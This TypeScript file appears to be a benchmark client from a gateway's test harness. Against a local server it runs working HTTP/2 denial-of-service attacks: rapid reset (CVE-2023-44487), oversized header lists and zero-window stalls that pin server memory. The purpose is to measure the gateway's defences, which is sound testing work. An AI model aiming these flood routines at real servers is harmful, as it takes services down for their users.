/**
 * The hostile client of bench/h2-flood.ts, in a process of its own (pinned by the harness):
 * `node bench/h2-flood-client.ts PORT CONNECTIONS SECONDS KIND`. Prints one JSON line: streams
 * opened, GOAWAYs and RST_STREAMs received by code, connections made.
 *
 * - `reset`: rapid reset (CVE-2023-44487): each connection opens and cancels 50 streams a turn
 *   and connects again after the server's GOAWAY, for SECONDS.
 * - `headers`: each connection opens 100 streams whose header list is near the server's
 *   32 KiB bound and never sends their body, and holds them for SECONDS.
 * - `stall`: each connection announces a stream window of 0 and asks 100 streams for 64 KiB
 *   it never reads (a zero-window stall), and holds them for SECONDS.
 * - `stall-1m`: the same, 1 MiB each: as much as the gateway holds for a slow client
 *   (`routes[].limits.buffer`), so about 100 MiB a connection.
 */
import http2, { type ClientHttp2Session } from 'node:http2';

const [port, connections, seconds] = process.argv.slice(2, 5).map(Number);
const kind = process.argv[5] ?? 'reset';
const url = `http://127.0.0.1:${port}`;
const end = Date.now() + seconds * 1000;
const counts = {
  streams: 0,
  connections: 0,
  goaways: {} as Record<string, number>,
  resets: {} as Record<string, number>,
};
const sessions = new Set<ClientHttp2Session>();
const add = (into: Record<string, number>, code: number) => {
  into[code] = (into[code] ?? 0) + 1;
};

/** 28 fields of 1,000 bytes: about 29,400 bytes as SETTINGS_MAX_HEADER_LIST_SIZE counts them (32 a field), under 32 KiB. */
const heavy: Record<string, string> = {};
for (let i = 0; i < 28; i++) heavy[`x-heavy-${i}`] = 'h'.repeat(1000);

function connect(): void {
  if (Date.now() >= end) return;
  counts.connections++;
  const stall = kind.startsWith('stall');
  const session = http2.connect(url, stall ? { settings: { initialWindowSize: 0 } } : {});
  sessions.add(session);
  session.on('error', () => {});
  session.on('goaway', (code: number) => add(counts.goaways, code));
  session.on('close', () => {
    sessions.delete(session);
    if (kind === 'reset') setTimeout(connect, 10);
  });
  session.on('connect', () => (kind === 'reset' ? burst(session) : hold(session)));
}

function burst(session: ClientHttp2Session): void {
  if (session.destroyed || session.closed || Date.now() >= end) return void session.destroy();
  try {
    for (let i = 0; i < 50; i++) {
      const stream = session.request({ ':path': '/small' });
      stream.on('error', () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
      counts.streams++;
    }
  } catch {
    return void session.destroy();
  }
  setImmediate(burst, session);
}

function hold(session: ClientHttp2Session): void {
  for (let i = 0; i < 100; i++) {
    const stream =
      kind === 'headers'
        ? session.request({ ':method': 'POST', ':path': '/upload', ...heavy }, { endStream: false })
        : session.request({ ':path': kind === 'stall-1m' ? '/1m' : '/64k' });
    stream.on('error', () => {});
    stream.on('close', () => {
      if (stream.rstCode !== undefined && stream.rstCode !== 0) add(counts.resets, stream.rstCode);
    });
    // Never read: what the server sends stays in its buffers (`stall`), or never comes.
    stream.pause();
    counts.streams++;
  }
}

for (let i = 0; i < connections; i++) connect();
setTimeout(
  () => {
    for (const session of sessions) session.destroy();
    process.stdout.write(`${JSON.stringify(counts)}\n`);
    process.exit(0);
  },
  seconds * 1000 + 500,
);
